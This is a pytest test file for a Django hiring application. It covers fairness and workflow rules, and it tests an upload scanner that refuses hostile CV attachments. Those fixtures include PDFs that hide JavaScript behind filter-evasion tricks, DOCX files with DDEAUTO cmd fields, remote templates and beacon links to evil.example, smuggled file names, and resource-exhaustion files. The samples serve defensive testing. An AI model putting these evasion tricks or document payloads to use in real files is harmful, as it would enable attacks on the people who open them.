"""More ways around fairness, and files that a reader would act on, tried by somebody else. Each says what holds."""

import base64
import contextlib
import subprocess
import sys
from datetime import date, datetime, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from hiring import figures
from hiring.attachments import child
from hiring.attachments.looking import look
from hiring.attachments.refused import FileRefused
from hiring.models import Application, Offer, PanelMember, Scorecard, Vacancy
from hiring.tasks import housekeeping
from hiring.workflows import applying, deciding, panel, scoring, vacancies
from peersupport.accounts import workflows as accounts
from peersupport.accounts.models import Role, RoleGrant
from peersupport.workflow.state_machine import NotPossible
from tests.hiring.conftest import WORDS, House, fresh, in_with, make_offer, offered
from tests.hiring.files import OFFICE, RELS, WORD, docx, odt, packed, pdf, relation
from tests.hiring.test_attacks import (
    big_house,
    big_world,
    needs_threads,
    queries_of,
    released_together,
)

__all__ = ["big_house", "big_world"]


# ---- the seal


def test_a_low_score_does_not_vanish_by_reopening_it_and_taking_its_member_off(judged):
    first, second, third = judged.members
    judged.score(first, judged.one, 3)
    judged.score(second, judged.one, 3)
    judged.score(third, judged.one, 1)
    assert scoring.above_the_bar(fresh(judged.one)) is False
    staff = judged.world.client(judged.coordinator)
    card = Scorecard.objects.get(member=third)
    staff.post(reverse("reopen-scorecard", args=[card.pk]), {"reason": "A wrong page"})
    staff.post(reverse("remove-member", args=[third.pk]))
    one = fresh(judged.one)
    with pytest.raises(NotPossible):
        deciding.decide(one, "appoint", by=judged.coordinator, **WORDS)


def test_the_only_peers_card_counts_as_it_was_when_it_is_open_again_and_the_account_is_deleted(judged):
    in_with(judged, 3)
    peer = judged.members[0]
    scoring.reopen(Scorecard.objects.get(member=peer), by=judged.coordinator, reason="A wrong page")
    accounts.delete_account(peer.user, by=peer.user)
    assert fresh(judged.one).scored_at
    deciding.decide(fresh(judged.one), "not_this_time", by=judged.coordinator, **WORDS)


def test_the_only_peers_card_counts_as_it_was_when_it_is_open_again_and_the_peer_leaves(judged):
    in_with(judged, 3)
    peer = judged.members[0]
    judged.member(peer=True)  # joined after all was shown: may not score
    scoring.reopen(Scorecard.objects.get(member=peer), by=judged.coordinator, reason="A wrong page")
    panel.leave(PanelMember.objects.get(pk=peer.pk), by=peer.user)
    assert fresh(judged.one).scored_at
    deciding.decide(fresh(judged.one), "not_this_time", by=judged.coordinator, **WORDS)


def test_nobody_becomes_a_peer_after_seeing_by_a_reopened_card(judged):
    in_with(judged, 2)
    second = judged.members[1]
    scoring.reopen(Scorecard.objects.get(member=second), by=judged.coordinator, reason="A wrong page")
    with pytest.raises(NotPossible):
        panel.state_peer(second, True, by=second.user)


def test_the_only_peer_does_not_stop_being_one_by_a_reopened_card(judged):
    in_with(judged, 2)
    peer = judged.members[0]
    judged.member(peer=True)
    scoring.reopen(Scorecard.objects.get(member=peer), by=judged.coordinator, reason="A wrong page")
    with pytest.raises(NotPossible):
        panel.state_peer(PanelMember.objects.get(pk=peer.pk), False, by=peer.user)
    judged.score(peer, judged.one, 3)
    assert fresh(judged.one).scored_at


def test_a_member_who_leaves_while_it_is_open_again_does_not_leave_it_sealed(judged):
    first, second, third = judged.members
    judged.score(first, judged.one, 3)
    judged.score(second, judged.one, 3)
    ahead = (timezone.localtime() + timedelta(days=3)).replace(tzinfo=None)
    vacancies.extend(judged.vacancy, by=judged.coordinator, wall_close=ahead, time_zone="Europe/Madrid")
    panel.leave(third, by=judged.coordinator)
    vacancies.close(judged.vacancy, by=judged.coordinator)
    housekeeping()
    assert fresh(judged.one).scored_at, "nobody is waited for, and nobody can send: sealed for ever"


def test_whoever_has_scored_does_not_run_it_afterwards(judged):
    _first, _second, third = judged.members
    judged.score(third, judged.one, 4)
    RoleGrant.objects.create(user=third.user, role=Role.COORDINATOR)
    panel.leave(third, by=third.user)
    third.user.__dict__.pop("roles", None)
    with pytest.raises(NotPossible):
        vacancies.hand_over(judged.vacancy, third.user, by=judged.coordinator)


@needs_threads
@pytest.mark.postgres
def test_can_not_score_while_taken_off_is_no_deadlock(big_house):
    house = big_house
    house.open((True,) + (False,) * 10)
    rows = [house.candidate(n) for n in range(1, 6)]
    house.close()
    for row in rows:
        house.score(house.members[0], row, 3)
    rows = [fresh(r) for r in rows]
    acts = []
    for i, m in enumerate(house.members[1:]):
        acts += [lambda m=m: panel.leave(m, by=m.user), lambda m=m, r=rows[i % 5]: panel.can_not_score(m, r, by=m.user)]
    released_together(acts)
    assert not PanelMember.objects.at_work().filter(pk__in=[one.pk for one in house.members[1:]]).exists()


# ---- steps


def test_after_a_lapsed_offer_a_vacancy_can_be_finished(judged):
    one, _s = offered(judged)
    Offer.objects.update(answer_by=timezone.localdate() - timedelta(days=1))
    housekeeping()
    assert fresh(one).state == "lapsed"
    assert vacancies.finish(judged.vacancy, by=judged.coordinator).state == "done"


def test_an_appointment_from_the_reserve_list_can_be_taken_back_to_it(judged):
    one = in_with(judged, 3)
    deciding.decide(one, "reserve", by=judged.coordinator, **WORDS)
    deciding.decide(fresh(one), "appoint", by=judged.coordinator, **WORDS)
    assert deciding.places_left(judged.vacancy) == 0
    deciding.decide(fresh(one), "reserve", by=judged.coordinator, **WORDS)
    assert (fresh(one).state, deciding.places_left(judged.vacancy)) == ("reserve", 1)


def test_a_promise_from_the_reserve_list_that_is_over_does_not_hold_a_post_for_ever(judged):
    one = in_with(judged, 3)
    deciding.decide(one, "reserve", by=judged.coordinator, **WORDS)
    deciding.decide(fresh(one), "appoint", by=judged.coordinator, **WORDS)
    Application.objects.update(reserve_until=timezone.localdate() - timedelta(days=2))
    housekeeping()
    assert fresh(one).state == "reserve", "a promise is not taken back by a date"
    deciding.decide(fresh(one), "not_this_time", by=judged.coordinator, **WORDS)
    assert deciding.places_left(judged.vacancy) == 1


def test_a_reserve_list_of_a_vacancy_that_is_done_can_be_taken_over(judged):
    one = in_with(judged, 3)
    deciding.decide(one, "reserve", by=judged.coordinator, **WORDS)
    vacancies.finish(judged.vacancy, by=judged.coordinator)
    other = judged.world.client(judged.world.user("coordinator"))
    accounts.delete_account(judged.coordinator, by=judged.coordinator)
    assert other.get(reverse("take-over-vacancy", args=[judged.vacancy.pk])).status_code == 200


def test_an_open_offer_of_a_done_vacancy_can_be_taken_over(judged):
    one = in_with(judged, 3)
    deciding.decide(one, "reserve", by=judged.coordinator, **WORDS)
    vacancies.finish(judged.vacancy, by=judged.coordinator)
    deciding.decide(fresh(one), "appoint", by=judged.coordinator, **WORDS)
    make_offer(judged, one)
    other = judged.world.client(judged.world.user("coordinator"))
    accounts.delete_account(judged.coordinator, by=judged.coordinator)
    assert reverse("take-over-vacancy", args=[judged.vacancy.pk]) in other.get(reverse("vacancies")).content.decode()


# ---- invitations


def test_who_accepts_after_the_vacancy_ended_is_no_panel_member(house):
    house.open((True,))
    invitation, _t = panel.invite(house.vacancy, "o@peers.example", by=house.coordinator, language="en")
    vacancies.cancel(house.vacancy, by=house.coordinator, kind_words="Sorry.")
    user = house.world.user(email="o@peers.example")
    with contextlib.suppress(NotPossible):
        accounts.accept(invitation, by=user)
    assert not RoleGrant.objects.filter(user=user, role=Role.PANEL_MEMBER).exists()


def test_who_accepts_what_was_taken_back_gets_no_role(house):
    invitation, _t = panel.invite(house.vacancy, "o@peers.example", by=house.coordinator, language="en")
    panel.do_not_ask(house.vacancy.asked_in.get(), by=house.coordinator)
    user = house.world.user(email="o@peers.example")
    with contextlib.suppress(NotPossible):
        accounts.accept(invitation, by=user)
    assert not RoleGrant.objects.filter(user=user, role=Role.PANEL_MEMBER).exists()


def test_one_seat_that_can_not_be_taken_does_not_take_away_the_other(house):
    other = House(house.world)
    other_coordinator = house.world.user("coordinator", email="o@peers.example")
    panel.invite(house.vacancy, "o@peers.example", by=house.coordinator, language="en")
    panel.invite(other.vacancy, "o@peers.example", by=house.coordinator, language="en")
    invitation = house.vacancy.asked_in.get().invitation
    vacancies.hand_over(house.vacancy, other_coordinator, by=house.coordinator)
    with contextlib.suppress(NotPossible):
        accounts.accept(invitation, by=other_coordinator)
    assert PanelMember.objects.filter(vacancy=other.vacancy, user=other_coordinator).exists()


def test_accepting_by_the_page_with_an_account_that_runs_it_is_no_error(house):
    second = house.world.user("coordinator")
    _i, token = panel.invite(house.vacancy, second.email, by=house.coordinator, language="en")
    type(house.vacancy).objects.filter(pk=house.vacancy.pk).update(run_by=second)
    client = house.world.client(second)
    assert client.get(reverse("invited", args=[token])).status_code == 200
    assert client.post(reverse("invited", args=[token]), {}).status_code in {200, 302}


def test_a_second_coordinator_does_not_kill_the_first_ones_link(house):
    _i, token = panel.invite(house.vacancy, "o@peers.example", by=house.coordinator, language="en")
    second = house.world.user("coordinator")
    theirs = vacancies.begin(house.version, by=second)
    client = house.world.client(second)
    page = client.post(
        reverse("add-member", args=[theirs.pk]), {"email": "o@peers.example"}, follow=True
    ).content.decode()
    assert "the same link" in page
    accounts.accept(accounts.invitation_for(token), by=house.world.user(email="o@peers.example"))
    assert PanelMember.objects.count() == 2


def test_a_hidden_language_can_not_be_worked_out_from_the_years(house):
    house.open((True,))
    for n in range(8):
        house.candidate(n)
    for _n in range(2):
        one = applying.begin(Vacancy.objects.get(pk=house.vacancy.pk), language="es")
        applying.send(one, by=applying.Candidate(one), name="A", relevance="x", lived=True)
    years, languages = figures.by_year(5), figures.by_language(5)
    applied = years[0].cells[figures.STEPS.index("applied")]
    shown = sum(some or 0 for _l, some, _o in languages)
    hidden = [1 for _l, some, _o in languages if some is None]
    assert not (applied is not None and len(hidden) == 1 and applied - shown == 2), "es: 2 worked out"


def test_changing_an_offer_counts_nobody_twice(judged):
    one, supervisor = offered(judged)
    for day in range(8, 14):
        deciding.offer(
            fresh(one),
            by=judged.coordinator,
            starts_on=date(2031, 6, 1),
            supervisor=supervisor,
            every_weeks=2,
            mode="in_person",
            first_at=datetime(2031, 5, 5, 10),
            time_zone="Europe/Madrid",
            answer_by=timezone.localdate() + timedelta(days=day),
        )
    assert figures.by_year(5)[0].cells[figures.STEPS.index("offer")] is None


# ---- pages


def test_more_pages_ask_the_same_number_of_queries(house):
    house.open((True,))
    rows = [house.candidate(n) for n in range(1, 12)]
    house.close()
    for one in rows[:1]:
        house.score(house.members[0], one, 3)
        house.decide(one, "reserve")
    client = house.world.client(house.coordinator)
    pages = [
        reverse("reserve-list"),
        reverse("hiring-figures"),
        reverse("vacancies"),
        reverse("vacancy", args=[house.vacancy.pk]),
    ]
    before = [queries_of(client, page) for page in pages]
    for one in rows[1:]:
        house.score(house.members[0], one, 3)
        house.decide(one, "reserve")
    Application.objects.update(to_ring_since=timezone.now())
    for n in range(8):
        panel.invite(house.vacancy, f"o{n}@peers.example", by=house.coordinator, language="en")
        house.member(peer=False)
    assert [queries_of(client, page) for page in pages] == before


def test_extend_to_the_end_of_time(house):
    house.open((True,))
    Vacancy.objects.update(score_by=date(9999, 12, 30))
    client = house.world.client(house.coordinator)
    page = client.post(
        reverse("extend-vacancy", args=[house.vacancy.pk]), {"close_day": "9998-12-31", "close_time": "10:00"}
    )
    assert page.status_code < 500


def test_strange_encoding_is_refused_not_an_error(house, client):
    from tests.hiring.files import folder

    application = house.begun()
    bad = folder({"[Content_Types].xml": "<a/>", "word/document.xml": '<?xml version="1.0" encoding="foo"?><a/>'})
    page = client.post(
        reverse("application", args=[applying.token_of(application)]),
        {"name": "A", "attach": "1", "file": SimpleUploadedFile("cv.docx", bad)},
    )
    assert page.status_code == 200


@pytest.mark.parametrize(
    "name",
    [
        "a" * 5000 + ".txt",
        "\x00.txt",
        "cv.txt\n.exe",
        "cv.TXT",
        "cv.txt ",
        "a.b.c.txt",
        "\ud800.txt".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    ],
)
def test_odd_file_names(house, client, name):
    application = house.begun()
    page = client.post(
        reverse("application", args=[applying.token_of(application)]),
        {"name": "A", "attach": "1", "file": SimpleUploadedFile(name, b"words")},
    )
    assert page.status_code in {200, 302}


@needs_threads
@pytest.mark.postgres
def test_four_uploads_at_once_leave_three(big_house):
    application = big_house.begun()
    by = applying.Candidate(application)
    released_together([lambda: applying.attach(application, "a.txt", b"words", size=5, by=by)] * 6)
    assert application.attachments.count() == 3


# ---- attachments: each was shown to reach a reader (MuPDF and PDFium for PDF, by pymupdf and pypdfium2)


JS = b"9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
OBJ = b"/Type /ObjStm /N 1 /First 4 "


def up(data, cols=4):
    data, out, prev = data + b" " * (-len(data) % cols), b"", bytes(cols)
    for at in range(0, len(data), cols):
        row = data[at : at + cols]
        out, prev = out + b"\x02" + bytes((a - b) & 255 for a, b in zip(row, prev, strict=True)), row
    return packed(out)


PLAIN = pdf(streams=[(OBJ + b"/Filter /FlateDecode", packed(JS))])
PDFS = {
    "short name of hex": pdf(streams=[(OBJ + b"/Filter /AHx", JS.hex().encode() + b">")]),
    "short name of run length": pdf(
        streams=[(OBJ + b"/Filter /RL", b"".join(bytes([0, one]) for one in JS) + b"\x80")]
    ),
    "a space behind stream": PLAIN.replace(b"stream\nx", b"stream \nx"),
    "CR behind stream": PLAIN.replace(b"stream\nx", b"stream\rx"),
    "NUL behind a name": pdf(b"<< /S /JavaScript\0/JS\0(app.alert\\(1\\)) >>"),
    "~ newline >": pdf(
        streams=[(OBJ + b"/Filter [/ASCII85Decode /FlateDecode]", base64.a85encode(packed(JS)) + b"~\n>")]
    ),
    "predictor in hex": pdf(
        streams=[(OBJ + b"/Filter /FlateDecode /DecodeParms << /Predicto#72 12 /Columns 4 >>", up(JS))]
    ),
    "ObjStm in hex": pdf(
        streams=[
            (b"/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>", up(JS))
        ]
    ),
    "DecodeParms elsewhere": pdf(
        b"<< /Predictor 12 /Columns 4 >>", streams=[(OBJ + b"/Filter /FlateDecode /DecodeParms 3 0 R", up(JS))]
    ),
    "a comment before the filter's number": pdf(
        b"/AHx", streams=[(OBJ + b"/Filter %\n 3 0 R", JS.hex().encode() + b">")]
    ),
    "a password behind a comment": pdf().replace(b"trailer\n<<", b"trailer\n<< /Encrypt % \n 9 0 R"),
    "opens a page by itself": pdf(b"<< /OpenAction << /S /URI /URI (https://evil.example/seen) >> >>"),
}
for _name, _file in list(PDFS.items()):
    assert "stream" not in _name or _file != PLAIN
V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:x="urn:x"'
META = (
    '<office:document-meta xmlns:office="urn:o" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink">%s</office:document-meta>'
)
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCUMENTS = {
    "the main part is called .png": docx(
        types=f'<Override PartName="/word/evil.png" ContentType="{MAIN}"/>',
        **{
            "_rels/.rels": f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/evil.png"/></Relationships>',
            "word/evil.png": f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r></w:p></w:body></w:document>',
        },
    ),
    "one field behind another": docx(
        "<w:p><w:r><w:instrText>PAGE</w:instrText></w:r></w:p><w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r></w:p>"
    ),
    "an attribute of nobody beside instr": docx(
        f'<w:p><w:fldSimple {V} w:instr=" DDEAUTO c:\\\\cmd " x:instr="PAGE"/></w:p>'
    ),
    "an attribute of nobody beside TargetMode": docx(
        relations=f'<Relationship xmlns:x="urn:x" Id="r9" Type="{OFFICE}/attachedTemplate" '
        'Target="https://evil.example/a.dotm" TargetMode="External" x:TargetMode="Internal"/>'
    ),
    "a picture by a link's relationship": docx(
        f'<w:p><a:blip {V} r:link="r9"/></w:p>', relation("hyperlink", "https://evil.example/seen.png")
    ),
    "VML src": docx(f'<w:p><v:shape {V}><v:imagedata src="https://evil.example/seen.png"/></v:shape></w:p>'),
    "mail merge": docx(
        **{
            "word/settings.xml": f'<w:settings xmlns:w="{WORD}"><w:mailMerge><w:connectString w:val="Data Source=\\\\evil\\x"/></w:mailMerge></w:settings>'
        }
    ),
    "odt: an attribute of nobody beside href": odt(
        '<draw:image xmlns:x="urn:x" xlink:href="https://evil.example/seen.png" x:href=""/>'
    ),
    "odt: auto-reload": odt(
        "", **{"meta.xml": META % '<meta:auto-reload xlink:href="https://evil.example/x.odt" meta:delay="PT0S"/>'}
    ),
    "odt: template": odt("", **{"meta.xml": META % '<meta:template xlink:href="https://evil.example/x.ott"/>'}),
}


@pytest.mark.parametrize("how", PDFS)
def test_a_pdf_that_some_reader_acts_on_is_refused(how):
    with pytest.raises(FileRefused):
        look("cv.pdf", PDFS[how], len(PDFS[how]))


@pytest.mark.parametrize("how", DOCUMENTS)
def test_a_document_that_some_programme_acts_on_is_refused(how):
    with pytest.raises(FileRefused):
        look("cv", DOCUMENTS[how], len(DOCUMENTS[how]))


FINE = {
    "saved by LibreOffice, two pages": odt(**{"layout-cache": b"\1\2\3"}),
    "from a template on a Mac": docx(
        relations=relation("attachedTemplate", "/Users/ana/Library/Containers/com.microsoft.Word/x.dotx")
    ),
    "a link with the word link": docx(
        '<w:p><w:r><w:instrText> HYPERLINK "https://example.org/link/a" </w:instrText></w:r></w:p>'
    ),
    "Zotero": docx(
        '<w:p><w:r><w:instrText> ADDIN ZOTERO_ITEM {"title":"A link between us"} </w:instrText></w:r></w:p>'
    ),
    "a link without scheme": docx(relations=relation("hyperlink", "www.linkedin.com/in/ana")),
}


@pytest.mark.parametrize("how", FINE)
def test_what_ordinary_programmes_write_is_taken(how):
    assert look("cv", FINE[how], len(FINE[how])).content == FINE[how]


SLOW = {
    "hex by the million": pdf(streams=[(b"/Filter /FlateDecode", packed(b"#41" * (6 << 20)))]),
    "streams without objects": b"%PDF-1.7\n" + b"A" * 4_900_000 + b"\nstream\n" * 4_999 + b"\n%%EOF\n",
    "lines in a field": docx("<w:p><w:r><w:instrText>" + "\n" * 600_000 + "</w:instrText></w:r></w:p>"),
    "many elements": docx(
        "<a/>" * 4_000_000, **{"word/media/a.png": __import__("random").Random(1).randbytes(600_000)}
    ),
}


def run_child(content):
    """Look at a file in a process of its own, with the limits it has."""
    return subprocess.run(
        [sys.executable, "-m", "hiring.attachments.child"],
        input=content,
        capture_output=True,
        cwd=child.ROOT,
        check=False,
    )


@pytest.mark.parametrize("how", SLOW)
def test_a_file_made_to_be_slow_is_judged_soon(how):
    """Each takes less than the process that looks is given: it says what it found, or refuses; it is never cut off."""
    done = run_child(SLOW[how])
    assert done.returncode == 0
    assert done.stdout
